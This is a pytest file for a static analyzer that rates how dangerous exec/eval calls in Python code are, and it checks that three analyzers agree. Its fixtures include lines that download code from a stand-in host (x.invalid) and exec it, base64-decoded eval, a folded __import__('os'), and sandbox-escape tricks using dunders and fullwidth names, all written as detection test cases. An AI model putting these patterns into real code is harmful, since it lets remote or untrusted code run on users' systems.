"""Issue 9 point 16: eval of strings the program builds itself is medium (a person reviews it
under the default policy); exec/eval of decoded, downloaded, outside or capability-reaching
strings stays high or critical. AST pass unit cases here; Bandit and Semgrep for real below."""

from __future__ import annotations

import pytest

from cellblock.assess import Level, assess_many
from cellblock.assess._ast_pass import AstAnalyzer
from cellblock.assess._bandit import BANDIT_MAP
from cellblock.assess._interface import Finding, Source
from cellblock.policy import load_preset


def run(code: str) -> list[Finding]:
    return list(AstAnalyzer().analyze(Source(code, "t.py", tuple(code.splitlines()))).findings)


def exec_rule(code: str) -> tuple[str, Level]:
    """The rule and level the pass gives the single exec/eval call in ``code``."""
    found = [f for f in run(code) if f.category == "dynamic-code"]
    assert found, "no dynamic-code finding"
    worst = max(found, key=lambda f: f.severity)
    return worst.rule_id, worst.severity


PROGRAM_BUILT = {
    "join-of-numbers": "nums = [3, 4, 5]\nprint(eval(' + '.join(str(n) for n in nums)))",
    "f-string-operator-list": (
        "import random\nops = ['+', '-', '*']\na, b = random.randint(1, 9), 4\n"
        "op = random.choice(ops)\nprint(eval(f'{a} {op} {b}'))"),
    "formula-table": (
        "import math\nF = {'area': 'w * h', 'diag': 'math.sqrt(w ** 2 + h ** 2)'}\n"
        "w, h = 3, 4\nfor name, f in F.items():\n    print(name, eval(f))"),
    "appended-terms-and-parameter": (
        "def poly(cs):\n    terms = []\n    for i, c in enumerate(cs):\n"
        "        terms.append(f'{c} * x ** {i}')\n    return ' + '.join(terms)\n"
        "def ev(e, x):\n    return eval(e, {'x': x})\nprint(ev(poly([1, 2]), 3))"),
    "folded-pieces": "a, b = 6, 7\nprint(eval(str(a) + ' * ' + str(b)))",
    "format-method": "for v in (0, 10):\n    print(eval('{v} * 9 / 5 + 32'.format(v=v)))",
    "restricted-namespace": (
        "import math\nfor e in ['sin(x)', 'x ** 2']:\n"
        "    print(eval(e, {'__builtins__': {}}, {'sin': math.sin, 'x': 1.5}))"),
    "modulo-operator": (
        "import random\nops = ['+', '%', '//']\nfor _ in range(3):\n"
        "    print(eval(f'{random.randint(1, 9)} {random.choice(ops)} 4'))"),
    "percent-template": "for n in [3, 4]:\n    print(eval('%d * %d' % (n, n)))",
    "stack-pop": (
        "stack = []\nfor t in [3, 4]:\n    stack.append(str(t))\n"
        "r = stack.pop()\nl = stack.pop()\nprint(eval(f'({l} + {r})'))"),
}


@pytest.mark.parametrize("name", PROGRAM_BUILT)
def test_eval_of_program_built_string_is_medium(name: str) -> None:
    assert exec_rule(PROGRAM_BUILT[name]) == ("cb.dynamic-code.program-built", Level.MEDIUM)


KEPT_HIGH = {
    # read from outside the program
    "input": "print(eval(input()))",
    "literal-then-input": "e = '1 + 1'\ne = input()\nprint(eval(e))",
    "argv": "import sys\nprint(eval(' + '.join(sys.argv[1:])))",
    "environment": "import os\nprint(eval(os.environ.get('F', '1')))",
    "getenv": "import os\nprint(eval(os.getenv('F')))",
    "stdin": "import sys\nfor line in sys.stdin:\n    print(eval(line))",
    "file": "with open('e.txt') as fh:\n    for line in fh:\n        print(eval(line))",
    "file-read": "src = open('e.txt').read()\nprint(eval(src))",
    "subprocess": "import subprocess\nprint(eval(subprocess.check_output(['cat', 'x'])))",
    # unknown sources
    "parameter-of-escaped-function": "def f(e):\n    return eval(e)\nlist(map(f, ['1']))",
    "attribute": "class C:\n    def go(self):\n        return eval(self.expr)",
    "unknown-call": "import json\nprint(eval(json.loads('\"1\"')))",
    "method-that-cuts": "e = '1+1xx'\nprint(eval(e.replace('x', '')))",
    # pieces that reach capabilities
    "module-alias": "import os as o\nfor c in ['o.getcwd']:\n    print(eval(c + '()'))",
    "joined-builtin": (
        "import random\nname = ''.join(random.sample(['op', 'en'], 2))\n"
        "print(eval(name + '(0).read()'))"),
    "dunder": "for a in ['().__class__']:\n    print(eval(a + '.__bases__'))",
    "joined-dunder": "for a in ['_', '_']:\n    print(eval(a + 'import' + a))",
    "quotes-inside": "for p in ['\"o\" \"s\"']:\n    print(eval(p + ' + \"x\"'))",
    "walrus": "for p in ['(y := 1)']:\n    print(eval(p + ' + 1'))",
    "mutator": "xs = []\nfor p in ['xs.append']:\n    print(eval(p + '(1)'))",
    "char-format": "for c in [95]:\n    print(eval(f'{c:c}' + '1'))",
    "aliased-builtin": "g = getattr\nfor c in ['g(1, 2)']:\n    print(eval(c))",
    "namespace-maps-open": "for e in ['f(0).read()']:\n    print(eval(e, {'f': open}))",
    "namespace-globals": "for e in ['x + 1']:\n    print(eval(e, globals()))",
    "fullwidth-name": "for n in ['\uff45\uff56\uff41\uff4c']:\n    print(eval(n + '(1)'))",
    "private-attribute": "import math\nfor a in ['math._x']:\n    print(eval(a + ' + 1'))",
    "module-with-modules": (
        "import random\nfor c in ['random.Random']:\n    print(eval(c + '()'))"),
    "operator-module": "import fractions\nfor c in ['fractions.operator']:\n    print(eval(c))",
    "dynamic-format-spec": (
        "t = 'c'\nfor n in [111, 112]:\n    print(eval(f'{n:{t}}' + '1'))"),
    "assembled-percent-c": "for n in [95]:\n    print(eval(('%' + 'c') % n + '1'))",
    "assembled-brace-c": "for n in [95]:\n    print(eval(('{:' + 'c}').format(n) + '1'))",
    "decorated-function": (
        "def dec(f):\n    f(input())\n    return f\n@dec\ndef ev(e):\n    return eval(e)\n"
        "ev('1 + 1')"),
    "alias-appended": "xs = ['1']\nys = xs\nys.append(input())\nprint(eval(xs[1]))",
    "row-appended": (
        "table = [['1']]\nfor row in table:\n    row.append(input())\nprint(eval(table[0][1]))"),
    "mutated-in-function": (
        "def fill(lst):\n    lst.append(input())\nxs = ['1']\nfill(xs)\nprint(eval(xs[1]))"),
    "unbound-append": "xs = ['1']\nlist.append(xs, input())\nprint(eval(xs[1]))",
    "dunder-iadd": "xs = ['1']\nxs.__iadd__([input()])\nprint(eval(xs[1]))",
    "unknown-function-gets-list": (
        "import json\nxs = ['1']\njson.dump(xs, open('f', 'w'))\nprint(eval(xs[0]))"),
    "yield-from-stdin": (
        "import sys\ndef lines():\n    yield from sys.stdin\nfor e in lines():\n    print(eval(e))"),
    # something else can rebind the names the string is built from
    "exec-elsewhere": "x = '1'\nexec('x = input()')\nprint(eval(x))",
    "walrus-elsewhere": "x = '1'\neval('(x := input())')\nprint(eval(x))",
    "globals-write": "x = '1'\nglobals()['x'] = input()\nprint(eval(x))",
    "mutator-as-value": "xs = ['1']\nadd = xs.append\nadd(input())\nprint(eval(xs[0]))",
    # exec and compile of built code are not relaxed
    "exec-program-built": "for i in range(3):\n    exec(f'v{i} = {i}')",
    "compile-program-built": "for i in range(3):\n    compile(f'{i} + 1', 'x', 'eval')",
}


@pytest.mark.parametrize("name", KEPT_HIGH)
def test_other_built_strings_stay_high(name: str) -> None:
    rule, level = exec_rule(KEPT_HIGH[name])
    assert level >= Level.HIGH, (rule, level)


KEPT_CRITICAL = {
    "urlopen": (
        "import urllib.request\n"
        "exec(urllib.request.urlopen('http://x.invalid/p').read().decode())"),
    "requests": "import requests\nexec(requests.get('http://x.invalid/p').text)",
    "socket": "import socket\ns = socket.create_connection(('x.invalid', 1))\nexec(s.recv(99))",
    "alphabet": "A = 'abcdefgh_()'\nimport random\nidx = [random.randint(0, 11)]\n"
                "eval(''.join(A[i] for i in idx))",
    "split-names-loop": "n = ''\nfor p in ['ev', 'al']:\n    n += p\neval(n + '(1)')",
    "folded-dunder": "eval('__imp' + 'ort__(\"os\")')",
    "base64": "import base64\neval(base64.b64decode(input()))",
}


@pytest.mark.parametrize("name", KEPT_CRITICAL)
def test_decoded_downloaded_and_spelled_out_code_is_critical(name: str) -> None:
    rule, level = exec_rule(KEPT_CRITICAL[name])
    assert level == Level.CRITICAL, rule


def test_downloaded_code_names_its_source() -> None:
    found = run("import urllib.request\nexec(urllib.request.urlopen('http://x.invalid').read())")
    remote = [f for f in found if f.rule_id == "cb.dynamic-code.remote"]
    assert remote and "urllib.request.urlopen" in remote[0].message


def test_bandit_rates_exec_and_eval_medium_like_bandit() -> None:
    assert BANDIT_MAP["B102"] == ("dynamic-code", Level.MEDIUM)
    assert BANDIT_MAP["B307"] == ("dynamic-code", Level.MEDIUM)


def test_all_three_analyzers_agree() -> None:
    """Real Bandit and Semgrep: program-built eval is medium in every analyzer; untrusted input
    is high and downloaded code critical in Semgrep's taint rules as in the AST pass."""
    out = assess_many({
        "built": PROGRAM_BUILT["join-of-numbers"].encode(),
        "input": b"expr = input()\nprint(eval(expr))\n",
        "argv": KEPT_HIGH["argv"].encode(),
        "remote": KEPT_CRITICAL["urlopen"].encode(),
    }, deep=True)
    assert all(a.deep_ran and not a.errors for a in out.values())

    def tools(key: str) -> dict[str, Level]:
        levels: dict[str, Level] = {}
        for f in out[key].findings:
            levels[f.tool] = max(levels.get(f.tool, Level.NONE), f.severity)
        return levels

    assert tools("built") == {"ast": Level.MEDIUM, "bandit": Level.MEDIUM,
                              "semgrep": Level.MEDIUM}
    assert out["built"].level == Level.MEDIUM
    for key in ("input", "argv"):
        assert tools(key)["ast"] == tools(key)["semgrep"] == Level.HIGH, key
        assert out[key].level == Level.HIGH
    assert tools("remote")["ast"] == tools("remote")["semgrep"] == Level.CRITICAL
    rules = {f.rule_id for f in out["remote"].findings}
    assert {"cb.dynamic-code.remote", "sg-dynamic-code-remote"} <= rules


def test_default_policy_reviews_program_built_eval_and_blocks_input() -> None:
    policy = load_preset("strict")
    out = assess_many({"built": PROGRAM_BUILT["formula-table"].encode(),
                       "input": KEPT_HIGH["input"].encode()})
    assert policy.decide(out["built"].level).action == "review"
    assert policy.decide(out["input"].level).action == "block"
